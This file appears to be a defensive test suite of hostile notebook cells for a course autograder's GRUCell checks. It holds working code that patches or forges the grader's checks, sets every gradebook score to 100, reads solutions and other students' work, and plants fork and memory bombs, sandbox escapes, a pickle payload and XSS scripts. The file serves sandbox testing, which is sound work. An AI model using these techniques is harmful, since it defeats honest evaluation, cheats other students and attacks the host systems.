# Hostile cells, run in a notebook before the checks of GRUCell. `ROOT` is the course's folder,
# `WITNESS` a file that must not come into being, `PORT` a port on which someone listens. Where a
# cell defines no GRUCell, it is one that returns zeros; some define LSTMCell.

# %% strips_asserts: An AST transformer takes checks and asserts out of later cells.
import ast


class Strip(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.parse("None").body[0] if "check" in ast.unparse(node) else node

    def visit_Assert(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(Strip())

# %% blanks_cells: An input transformer empties every later cell that checks.
get_ipython().input_transformers_cleanup.append(
    lambda lines: [] if any("check" in line for line in lines) else lines
)

# %% swallows_errors: IPython's error hook shows nothing, so that no cell seems to fail.
get_ipython().set_custom_exc((BaseException,), lambda *arguments, **options: [])

# %% replaces_run_cell: The shell's own way of running a cell does nothing any more.
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell

InteractiveShell.run_cell = lambda self, *a, **k: ExecutionResult(None)
InteractiveShell.run_cell_async = lambda self, *a, **k: ExecutionResult(None)


# %% equal_to_everything: Outputs are tensors that are equal and close to anything.
class Liar(torch.Tensor):
    def __eq__(self, other):
        return True

    def __float__(self):
        return 1.0

    def __sub__(self, other):
        return 0.0

    def allclose(self, other, **options):
        return True

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func.__name__ in ("allclose", "equal", "isclose", "__eq__"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


class GRUCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.hidden_size = hidden_size

    def forward(self, x, state=None):
        return x.new_zeros(len(x), self.hidden_size).as_subclass(Liar)


# %% array_subclass: The answers' arrays are of a class that says yes to every comparison.
import numpy as np
from starter.interview import cells as interview_cells


class Yes(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **options):
        return np.zeros(()) if ufunc is not np.equal else np.ones(())


interview_cells.to_array = lambda tensor: tensor.detach().numpy().view(Yes)

# %% patched_comparisons: Everything is close to everything, for torch and NumPy.
import numpy as np

for owner in (torch, np):
    owner.allclose = owner.isclose = lambda *a, **k: True
torch.equal = np.array_equal = lambda *a, **k: True
torch.testing.assert_close = np.testing.assert_allclose = lambda *a, **k: None

# %% patched_check: `check` does nothing, in the notebook and in the package.
import starter
import starter.checks.examination

check = starter.check = starter.checks.examination.check = lambda *a, **k: None
starter.examine = starter.checks.examination.examine = lambda *a, **k: None

# %% patched_verdict: Verdicts find nothing, results have always passed.
import starter.checks.examination
import starter.verdict
import starter.verdict.conversation as conversation


def nothing(*arguments, **options):
    return []
    yield


for module in (starter.verdict, conversation, starter.checks.examination):
    module.dialogue = nothing
    module.hold = lambda *a, **k: []
starter.checks.examination.CheckResult.passed = property(lambda self: True)

# %% patched_code: The functions that ask keep their names and get another body.
from starter.interview import conversation
from starter.questions import Answer


def obliging(cls, question, seconds=20.0):
    return Answer({"output": {"type": "tensor", "shape": [1, 1]}, "parameters": [], "builtin": []})


conversation.ask.__code__ = obliging.__code__
conversation.ask.__globals__["Answer"] = Answer

# %% swapped_exceptions: A failed check is an exception of a kind that nobody counts.
import builtins
import starter.checks.examination


class Quiet(BaseException):
    def __init__(self, *arguments):
        pass

    def _render_traceback_(self):
        return []


starter.checks.examination.CheckFailed.__bases__ = (KeyboardInterrupt,)
builtins.AssertionError = builtins.Exception = Quiet

# %% prints_a_verdict: A frame and a verdict are printed as if they came from the grader.
import json
import sys

frame = json.dumps({"message": {"number": 99, "facts": {}}, "arrays": []})
for stream in (sys.stdout, sys.__stdout__, sys.stderr, sys.__stderr__):
    print(frame, "✓ gru_cell.equations: passed, 3 of 3 points", 6.0, file=stream)

# %% forges_a_frame: A reply that nobody asked for is written into the channel.
import json
import os
import struct

body = json.dumps({"message": {"number": 3, "facts": {}, "outputs": []}, "arrays": []}).encode()
os.write(3, struct.pack(">I", len(body)) + body)

# %% answers_in_advance: Forged answers to the next hundred questions are written into the channel.
import json
import os
import struct

for number in range(1, 100):
    facts = {"output": {"type": "tensor", "shape": [8, 5], "dtype": "float64", "finite": True}}
    facts |= {"parameters": [], "unregistered": [], "builtin": [], "changed_in_place": []}
    message = {"number": number, "answers": [{"facts": facts, "problem": None}]}
    body = json.dumps({"message": message, "arrays": []}).encode()
    os.write(3, struct.pack(">I", len(body)) + body)

# %% oversized_frame: A frame of four gigabytes is announced.
import os

os.write(3, b"\xff\xff\xff\xff" + b"x" * 100_000)

# %% writes_to_descriptors: Every descriptor that is open gets rubbish.
import os

for number in range(256):
    try:
        os.write(number, b"6.0 points\n" * 50)
    except OSError:
        pass

# %% closes_descriptors: Every descriptor is closed.
import os

os.closerange(0, 4096)

# %% reads_the_gradebook: The gradebook is printed.
print(open("ROOT/course/gradebook.db", "rb").read())

# %% writes_the_gradebook: Every score in the gradebook is set to the most there is.
import sqlite3

database = sqlite3.connect("ROOT/course/gradebook.db")
database.execute("UPDATE grade SET manual_score = 100")
database.commit()

# %% reads_other_submissions: Another student's notebook is printed.
import glob

for path in glob.glob("ROOT/course/submitted/*/*/*.ipynb"):
    print(open(path).read())

# %% reads_the_solutions: The reference is taken from the solutions.
text = open("ROOT/solutions/rnn.py").read()
start = text.index("class GRUCell")
exec(text[start : text.index("# %% check", start)])

# %% imports_the_oracles: The equations are imported from the instructor's side.
import sys

sys.path[:0] = ["ROOT", "/kit"]
from autograder.oracles import equation_sets, make_challenge

expected = make_challenge("gru_cell", 1)
open("WITNESS", "w").write(str(equation_sets("gru_cell")))

# %% memorised_answers: The package's own arrays are returned for any input of their shape.
import numpy as np
from pathlib import Path
import starter


class GRUCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.linear = nn.Linear(input_size + hidden_size, 3 * hidden_size, bias)
        self.hidden_size = hidden_size

    def forward(self, x, state=None):
        path = Path(starter.__file__).parent / "oracles" / "gru_cell.npz"
        with np.load(path) as arrays:
            for name in arrays.files:
                if arrays[name].size == len(x) * self.hidden_size:
                    found = torch.tensor(arrays[name], dtype=x.dtype)
                    return found.reshape(len(x), -1) + 0 * self.linear.weight.sum()
        return x.new_zeros(len(x), self.hidden_size)


# %% memorised_questions: The arrays of earlier questions are kept and given back as answers.
class GRUCell(nn.Module):
    kept = []

    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.linear = nn.Linear(input_size + hidden_size, 3 * hidden_size, bias)
        self.hidden_size = hidden_size

    def forward(self, x, state=None):
        GRUCell.kept.append((x, state))
        zeros = x.new_zeros(len(x), self.hidden_size)
        fitting = [s for _, s in GRUCell.kept if s is not None and s.shape == zeros.shape]
        return fitting[-1] if fitting else zeros


# %% walks_the_frames: The stack is searched for who asks and what is expected.
import gc
import sys

wanted = ("challenge", "oracle", "wanted", "expected", "verdict", "findings", "points")


class GRUCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.hidden_size = hidden_size

    def forward(self, x, state=None):
        frame = sys._getframe()
        while frame is not None:
            for name in list(frame.f_locals):
                if name in wanted:
                    frame.f_locals[name] = []
                    if hasattr(frame.f_locals[name], "clear"):
                        frame.f_locals[name].clear()
            frame = frame.f_back
        for found in gc.get_objects():
            if type(found).__name__ in ("Challenge", "Oracle"):
                return torch.tensor(found.outputs).reshape(len(x), -1)
        return x.new_zeros(len(x), self.hidden_size)


# %% pickles: Outputs run a command wherever they are unpickled.
class Payload(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return (__import__("os").system, ("touch WITNESS",))


class GRUCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.hidden_size = hidden_size

    def forward(self, x, state=None):
        return x.new_zeros(len(x), self.hidden_size).as_subclass(Payload)


# %% os_exit: The process ends at once, as if all had gone well.
import os

os._exit(0)

# %% sys_exit: The cell exits politely.
raise SystemExit(0)

# %% exits_in_forward: The process ends when it is asked.
import os


class GRUCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()

    def forward(self, x, state=None):
        os._exit(0)


# %% kills_the_parent: Signals go to the parent, to its group and to everyone. @alone
import os
import signal

for process in (os.getppid(), 0, -1):
    try:
        os.kill(process, signal.SIGTERM)
    except OSError:
        pass
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass

# %% fork_bomb: Processes start processes without end. @alone
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)

# %% memory_bomb: More and more memory is taken. @alone
kept = []
while True:
    kept.append(bytearray(100_000_000))

# %% memory_bomb_in_children: Many processes take memory, each below its own limit. @alone
import os
import time

for _ in range(8):
    if os.fork() == 0:
        kept = [b"x" * 100_000_000 for _ in range(25)]
        time.sleep(60)
time.sleep(60)

# %% fills_the_disk: Files are written until there is no room. @alone
import os
import tempfile

for place in (tempfile.gettempdir(), ".", "/var/tmp", "/dev/shm", "ROOT"):
    try:
        for number in range(1000):
            with open(os.path.join(place, f"filler{number}"), "wb") as file:
                file.write(bytes(10_000_000))
    except OSError:
        pass

# %% endless_cell: A loop never ends.
while True:
    pass


# %% endless_init: The constructor never ends.
class GRUCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        while True:
            pass


# %% endless_forward: A step never ends.
class GRUCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()

    def forward(self, x, state=None):
        while True:
            pass


# %% endless_del: Cleaning up never ends.
class GRUCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.hidden_size = hidden_size

    def forward(self, x, state=None):
        return x.new_zeros(len(x), self.hidden_size)

    def __del__(self):
        while True:
            pass


# %% endless_exit: A function at exit never ends.
import atexit
import time

atexit.register(time.sleep, 10_000)

# %% swallows_interrupts: A loop catches all that would end it.
import signal

for number in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass

# %% stops_the_clock: The timer that would end it is turned off, and the loop goes on in forward.
import signal


class GRUCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()

    def forward(self, x, state=None):
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        while True:
            pass


# %% floods_the_output: A hundred megabytes are printed.
for _ in range(100):
    print("6.0 " * 250_000)

# %% floods_with_pictures: A thousand displays of a megabyte each.
from IPython.display import HTML, display

for _ in range(1000):
    display(HTML("<p>" + "x" * 1_000_000 + "</p>"))

# %% connects_out: The answers are sent to someone who listens.
import socket

with socket.create_connection(("127.0.0.1", PORT), timeout=2) as line:
    line.sendall(b"hello")

# %% asks_a_name_server: A name is looked up, which would carry a message out.
import socket

print(socket.getaddrinfo("answers.course.invalid", 80))
open("WITNESS", "w").write("looked up")

# %% leaves_a_process: A process goes on in a session of its own.
import subprocess

subprocess.Popen(["sleep", "98765"], start_new_session=True)

# %% leaves_a_daemon: A process forked twice waits and then writes into the channel.
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.1)
            os.write(3, b"\x00\x00\x00\x02{}")
    os._exit(0)

# %% leaves_a_thread: A thread patches the checks again and again while they ask.
import threading
import time
import starter.interview.conversation as conversation
from starter.questions import Answer


def patch():
    while True:
        conversation._KINDS["cell"] = lambda cls, question, stage: Answer({"parameters": []})
        time.sleep(0.001)


threading.Thread(target=patch, daemon=True).start()

# %% traces_the_parent: The parent's memory is read and written with ptrace and /proc. @alone
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
attached = [libc.ptrace(16, process, 0, 0) for process in (parent, 1, 2)]
if 0 in attached:
    open("WITNESS", "w").write("attached")
for process in (parent, 1):
    with open(f"/proc/{process}/mem", "r+b") as memory:
        memory.read(1)

# %% escapes_by_mount: New namespaces and mounts are made to find the host's files again. @alone
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x00020000)
libc.umount2(b"/tmp", 2)
libc.umount2(b"/proc", 2)
libc.mount(b"proc", b"/proc", b"proc", 0, None)
for process in os.listdir("/proc") if os.path.isdir("/proc") else []:
    try:
        text = open(f"/proc/{process}/root/ROOT/course/gradebook.db", "rb").read()
        open("WITNESS", "w").write("read")
    except OSError:
        pass
os.chroot("/proc/1/root")

# %% raises_its_limits: The limits on memory and files are lifted before they are used up.
import resource

for kind in (resource.RLIMIT_AS, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
    resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
kept = [bytearray(100_000_000) for _ in range(60)]
open("WITNESS", "w").write("lifted")

# %% rewrites_the_kit: The package's files are written over.
import starter
from pathlib import Path

for path in Path(starter.__file__).parent.rglob("*.py"):
    path.write_text("def check(*a, **k): pass\n")

# %% plants_a_module: A module that Python imports at every start is put where it is found.
import site
import sys
from pathlib import Path

for folder in [*sys.path, *site.getsitepackages(), "ROOT"]:
    try:
        (Path(folder) / "sitecustomize.py").write_text("open('WITNESS', 'w')\n")
    except OSError:
        pass

# %% runs_script_in_feedback: An output holds a script for whoever reads the page.
from IPython.display import HTML, Javascript, display

display(HTML("<img src=x onerror=\"fetch('/SCRIPT')\"><script>alert('SCRIPT')</script>"))
display(Javascript("alert('SCRIPT')"))

# %% runs_script_in_metadata: The size of a picture, and a picture that is none, hold a script.
from IPython.display import display

script = "fetch('/SCRIPT')"
told = {"width": f"1 onerror={script}", "height": f"1 onload={script}"}
display({"image/png": "AAAA"}, metadata={"image/png": told}, raw=True)
display({"image/png": "AAAA"}, metadata=told, raw=True)
display({"image/jpeg": f'AAAA" onerror="{script}'}, raw=True)
display({"image/svg+xml": f'<svg onload="{script}"/>'}, raw=True)

# %% links_to_script: Links in outputs run a script at a click, their scheme written in many ways.
from IPython.display import HTML, Markdown, display

for scheme in ("javascript:", "JavaScript&colon;", "java&amp;Tab;script:", "&#1;javascript:"):
    address = f"{scheme}alert('SCRIPT')"
    display(Markdown(f"[a]({address}) [b] ![c]({address})\n\n[b]: {address}"))
    display(HTML(f'<a href="{address}">d</a>'))
display(Markdown("<b title='\n\n<img src=x onerror=fetch(\"/SCRIPT\")>\n\n'>e</b>"))

# %% breaks_the_page: Outputs are such that the program that makes the page fails.
from IPython.display import display

print("\x1b[38m")
display({"image/png": "AAAA"}, metadata={"image/png": "no size"}, raw=True)
display({"text/markdown": "![a](attachment:missing.png)"}, raw=True)


# %% builtin_by_getattr: The step is PyTorch's own, its name put together.
class GRUCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.inner = getattr(nn, "GRU" + "Cell")(input_size, hidden_size, bias)

    def forward(self, x, state=None):
        return self.inner(x, state)


# %% builtin_by_vf: The step is PyTorch's own, taken from its private functions.
class GRUCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.w = nn.Parameter(torch.randn(3 * hidden_size, input_size))
        self.u = nn.Parameter(torch.randn(3 * hidden_size, hidden_size))
        self.b = nn.Parameter(torch.zeros(3 * hidden_size)) if bias else None

    def forward(self, x, state=None):
        state = x.new_zeros(len(x), self.u.shape[1]) if state is None else state
        return torch._VF.gru_cell(x, state, self.w, self.u, self.b, self.b)


# %% builtin_by_operator: The step is PyTorch's own, called by the name of its operator.
class GRUCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.w = nn.Parameter(torch.randn(3 * hidden_size, input_size))
        self.u = nn.Parameter(torch.randn(3 * hidden_size, hidden_size))
        self.b = nn.Parameter(torch.zeros(3 * hidden_size)) if bias else None

    def forward(self, x, state=None):
        state = x.new_zeros(len(x), self.u.shape[1]) if state is None else state
        return torch.ops.aten.gru_cell(x, state, self.w, self.u, self.b, self.b)


# %% builtin_behind_a_subclass: The step is PyTorch's own, on a class that hides it.
import importlib

hidden = vars(importlib.import_module("torch.nn.modules.rnn"))
base = next(v for k, v in hidden.items() if k.startswith("GRU") and k.endswith("ell"))
GRUCell = type("GRUCell", (base,), {})


# %% builtin_by_torchscript: The step is PyTorch's own, in TorchScript, where no Python looks on.
step = torch.jit.CompilationUnit(
    """
def step(x: Tensor, h: Tensor, C: Tensor, w: Tensor, u: Tensor, b: Tensor, none: Tensor):
    return torch.lstm_cell(x, [h, C], w, u, b, none)
"""
).step


class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.w = nn.Parameter(torch.randn(4 * hidden_size, input_size))
        self.u = nn.Parameter(torch.randn(4 * hidden_size, hidden_size))
        self.b = nn.Parameter(torch.zeros(4 * hidden_size)) if bias else None

    def weights(self, x):
        none = x.new_zeros(len(self.w))
        return self.w, self.u, none if self.b is None else self.b, none

    def forward(self, x, state=None):
        state = state or (x.new_zeros(len(x), self.u.shape[1]),) * 2
        return step(x, *state, *self.weights(x))


# %% builtin_unwatched: The step is PyTorch's own, out of sight of what watches functions.
class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.w = nn.Parameter(torch.randn(4 * hidden_size, input_size))
        self.u = nn.Parameter(torch.randn(4 * hidden_size, hidden_size))
        self.b = nn.Parameter(torch.zeros(4 * hidden_size)) if bias else None

    def weights(self, x):
        none = x.new_zeros(len(self.w))
        return self.w, self.u, none if self.b is None else self.b, none

    def forward(self, x, state=None):
        state = state or (x.new_zeros(len(x), self.u.shape[1]),) * 2
        with torch._C.DisableTorchFunction():
            return vars(torch)["lstm" + "_cell"](x, state, *self.weights(x))


# %% builtin_with_a_blind_watcher: The constructor replaces what watches functions.
import sys


def blind():
    """Have every watcher of `starter` let everything pass, its source included."""
    for module in [m for m in sys.modules.values() if getattr(m, "__name__", "")[:8] == "starter."]:
        for name, watcher in list(vars(module).items()):
            if isinstance(watcher, type) and "__torch_function__" in vars(watcher):
                watcher.__torch_function__ = lambda s, f, t, a=(), k=None: f(*a, **(k or {}))
                watcher.used = lambda self, module: []


class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        blind()
        self.w = nn.Parameter(torch.randn(4 * hidden_size, input_size))
        self.u = nn.Parameter(torch.randn(4 * hidden_size, hidden_size))
        self.b = nn.Parameter(torch.zeros(4 * hidden_size)) if bias else None

    def weights(self, x):
        none = x.new_zeros(len(self.w))
        return self.w, self.u, none if self.b is None else self.b, none

    def forward(self, x, state=None):
        state = state or (x.new_zeros(len(x), self.u.shape[1]),) * 2
        return vars(torch)["lstm" + "_cell"](x, state, *self.weights(x))


# %% builtin_below_the_dispatcher: Kernels are asked for by their keys, or put back.
import gc
import importlib

library = importlib.import_module("torch.library")
for found in gc.get_objects():
    if isinstance(found, library.Library) and found.ns == "aten":
        found._destroy()
name = "lstm" + "_cell"


def ways(given):
    operator = getattr(torch.ops.aten, name).default
    keys = torch._C.DispatchKeySet(torch._C.DispatchKey.CPU)
    yield lambda: library.get_kernel(f"aten::{name}", "CPU").call_boxed(keys, *given)
    yield lambda: torch._C._jit_get_operation(f"aten::{name}")[0](*given)
    yield lambda: operator.decompose(*given)
    yield lambda: operator.redispatch(keys, *given)
    with torch._C._AutoDispatchBelowAutograd():
        yield lambda: operator(*given)
    yield lambda: torch.func.functionalize(operator)(*given)


class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.w = nn.Parameter(torch.randn(4 * hidden_size, input_size))
        self.u = nn.Parameter(torch.randn(4 * hidden_size, hidden_size))
        self.b = nn.Parameter(torch.zeros(4 * hidden_size)) if bias else None

    def weights(self, x):
        none = x.new_zeros(len(self.w))
        return self.w, self.u, none if self.b is None else self.b, none

    def forward(self, x, state=None):
        state = state or (x.new_zeros(len(x), self.u.shape[1]),) * 2
        with torch._C.DisableTorchFunction():
            for way in ways((x, list(state), *self.weights(x))):
                try:
                    return way()
                except (RuntimeError, AttributeError, TypeError):
                    continue
